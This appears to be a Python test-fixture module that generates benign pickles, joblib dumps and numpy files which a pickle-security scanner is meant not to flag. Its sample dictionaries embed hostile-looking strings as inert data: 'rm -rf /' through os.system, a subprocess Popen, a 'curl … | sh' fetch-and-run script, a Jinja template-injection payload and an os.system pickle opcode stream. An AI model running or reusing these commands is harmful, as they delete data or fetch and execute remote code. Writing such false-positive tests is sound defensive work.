"""Honest objects: what a scanner must not flag. Values are plain or made with the packages that are installed."""

import importlib
import io
import pathlib
import pickle
import signal
import sys
import warnings

from containers import numbers
from opcodes import Ops, arguments, call, name, stream, value

PEERS = pathlib.Path(__file__).resolve().parents[2]
# An object that takes longer than this to make and dump is skipped; seconds.
PATIENCE = 10
# A pickle larger than this is not kept; bytes.
LARGEST = 1 << 20

TEXTS = {
    "os-system": "os.system", "call": "os.system('rm -rf /')", "code": "import os\nos.system('echo')\n", "import": "__import__('subprocess').Popen('id')", "exec": "exec(base64.b64decode('cHJpbnQoMSk='))", "module-names": ["os", "system", "posix", "subprocess", "Popen", "builtins", "eval", "exec"], "protocol-0": "cos\nsystem\n(S'echo'\ntR.", "url": "https://example.org/model.pkl?x=eval",
    "advice": "never unpickle files from strangers: pickle.loads runs code", "commands": {"cmd": "bash -c 'id'", "script": "#!/bin/sh\ncurl http://example.org | sh\n"}, "opcodes": "GLOBAL 'os system' MARK STRING TUPLE REDUCE", "vocabulary": {"eval": 1, "exec": 2, "system": 3, "open": 4, "getattr": 5, "import": 6}, "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "tuple": ("os", "system"),
}
BYTES = {
    "a-pickle": stream(value({"epoch": 3}, 2), 2), "protocol-0": b"cos\nsystem\n(S'echo'\ntR.", "zip-magic": b"PK\x03\x04" + bytes(60), "elf-magic": b"\x7fELF" + bytes(60), "gzip-magic": b"\x1f\x8b\x08" + bytes(60), "all": bytes(range(256)) * 4, "dots": b"." * 500, "reduce": b"R" * 500, "protocols": b"\x80\x04\x95" * 200, "globals": b"c\n\n" * 200, "marshalled": b"\xe3" + bytes(100), "pe": b"MZ" + bytes(200),
}


def handmade():
    """Forms of plain data, and of texts and bytes that only look like something else; no packages needed."""
    for label, held in TEXTS.items():
        for protocol in (0, 2, 4):
            yield "text-%s" % label, ".pkl", stream(value({"note": held}, protocol), protocol), protocol, "mentions a name and imports nothing"
    for label, held in BYTES.items():
        for protocol in (3, 4):
            yield "bytes-%s" % label, ".pkl", stream(value({"blob": held}, protocol), protocol), protocol, "bytes that look like something else"
    assembled = importlib.import_module("assembled")
    for label, data in assembled.STREAMS.items():
        yield "form-%s" % label, ".pkl", data, None, "a form that old Pythons write"
    # Persistent ids of classes that are inert, as torch and others write them.
    for protocol in (0, 1, 2, 4):
        storage = Ops(arguments(("storage", name("torch", "FloatStorage", protocol), "0", "cpu", 6), protocol) + (b"Q" if protocol else b""))
        if protocol:
            yield "persistent-id", ".pkl", stream(value([storage], protocol), protocol), protocol, "the loader finds the object"
        else:
            yield "persistent-id", ".pkl", stream(Ops(b"Pweights/0\n"), 0), 0, "the loader finds the object"
    yield "data-of-1-mb", ".pkl", stream(value({"blob": numbers(1000) * 250}, 4), 4), 4, "1 MB of numbers"
    yield "data-of-100000-numbers", ".pkl", stream(value(list(range(100000)), 4), 4), 4, ""
    yield "buffers-as-bytearray", ".pkl", pickle.dumps(bytearray(b"os.system" * 100), 5), 5, ""
    for extension, text in [(".md", "# Safe?\n\nRun `os.system('echo')`.\n"), (".txt", "GLOBAL os system, then REDUCE: what a harmful pickle does.\n"), (".json", '{"eval": "exec", "cmd": "os.system"}\n'), (".yaml", "a: 1\n"), (".csv", "a,b\n1,2\n")]:
        yield "passive", extension, text.encode(), None, "no loader runs it"


def _patiently(make):
    def late(_signal, _frame):
        raise TimeoutError("took too long")

    if hasattr(signal, "SIGALRM"):
        signal.signal(signal.SIGALRM, late)
        signal.alarm(PATIENCE)
    try:
        return make()
    finally:
        if hasattr(signal, "SIGALRM"):
            signal.alarm(0)


def _dumped(made, protocol):
    out = io.BytesIO()
    pickle.Pickler(out, protocol).dump(made)
    data = out.getvalue()
    # One of our own helper functions would not be an honest user's pickle.
    return data if len(data) <= LARGEST and b"honest" not in data else None


def _sampled(rows, most):
    """At most so many, spread evenly."""
    rows = list(rows)
    step = max(1, -(-len(rows) // most))
    return rows[::step]


def _makers(most):
    """Yields group, name and a function that makes the object, for each package that is installed."""
    try:
        stdlib = importlib.import_module("honest_stdlib")
        for group in stdlib.GROUPS:
            made, rows = group(), []
            while True:
                try:
                    rows.append(next(made))
                except StopIteration:
                    break
                except Exception:
                    break
            for label, held in _sampled(rows, most):
                yield "stdlib-" + group.__name__.replace("_", "-"), label, lambda held=held: held
    except ImportError:
        pass
    for topic in ("numpy", "scipy", "pandas", "learning"):
        try:
            module = importlib.import_module("honest_" + topic)
        except ImportError:
            continue
        for group, expressions in module.expressions():
            for expression in _sampled(expressions, most // 2):
                yield "%s-%s" % (topic, group), expression, lambda expression=expression, module=module: eval(expression, dict(module.NAMESPACE))
    try:
        sklearn = importlib.import_module("honest_sklearn")
        namespace = sklearn.namespace()
    except ImportError:
        return
    for label, make in _sampled(sklearn.fitted(), most * 2):
        yield "sklearn-fitted", label, make
    for expression in _sampled(sklearn.OTHERS, most * 2):
        yield "sklearn-others", expression, lambda expression=expression: eval(expression, dict(namespace))


def of_packages(most=24):
    """Yields what the installed packages pickle, a sample of tests/peers/honest_*.py, in a protocol each in turn."""
    warnings.simplefilter("ignore")
    sys.setrecursionlimit(5000)
    protocols = (2, 4, 5, 0, 3)
    for number, (group, label, make) in enumerate(_makers(most)):
        protocol = protocols[number % len(protocols)]
        try:
            data = _patiently(lambda: _dumped(make(), protocol))
        except KeyboardInterrupt:
            raise
        except BaseException:
            continue
        if data:
            yield group, ".pkl", data, protocol, str(label)[:120]


def dumped_by_joblib():
    """Yields joblib dumps of a model and arrays, plain and with each compression, and numpy's own files."""
    try:
        joblib, numpy = importlib.import_module("joblib"), importlib.import_module("numpy")
    except ImportError:
        return
    objects = {"arrays": {"w": numpy.arange(12.0).reshape(3, 4), "b": numpy.zeros(4), "names": ["a", "b"]}, "objects": numpy.array([1, "a", None], dtype=object)}
    try:
        linear = importlib.import_module("sklearn.linear_model")
        ensemble = importlib.import_module("sklearn.ensemble")
        features = numpy.arange(40.0).reshape(20, 2)
        objects["ridge"] = linear.Ridge().fit(features, features[:, 0])
        objects["forest"] = ensemble.RandomForestClassifier(3, random_state=0).fit(features, numpy.arange(20) % 2)
    except ImportError:
        pass
    compressions = [None, 1, ("gzip", 3), ("bz2", 3), ("xz", 1), ("lzma", 1), ("lz4", 3)]
    for label, held in objects.items():
        for compress in compressions:
            how = "plain" if compress is None else "zlib" if compress == 1 else compress[0]
            out = io.BytesIO()
            try:
                joblib.dump(held, out, compress=compress or 0)
            except ValueError:
                continue
            yield "joblib-%s" % how, ".joblib", out.getvalue(), None, label
    for label, array in [("numbers", numpy.arange(30.0)), ("objects", numpy.array([1, "a", None], dtype=object)), ("records", numpy.zeros(3, dtype=[("a", "i4"), ("b", "f8")])), ("texts", numpy.array(["os.system", "b"]))]:
        out = io.BytesIO()
        numpy.save(out, array)
        yield "numpy-npy", ".npy", out.getvalue(), None, label
    for label, write in [("stored", numpy.savez), ("deflated", numpy.savez_compressed)]:
        out = io.BytesIO()
        write(out, a=numpy.arange(5), o=numpy.array([1, None], dtype=object))
        yield "numpy-npz", ".npz", out.getvalue(), None, label
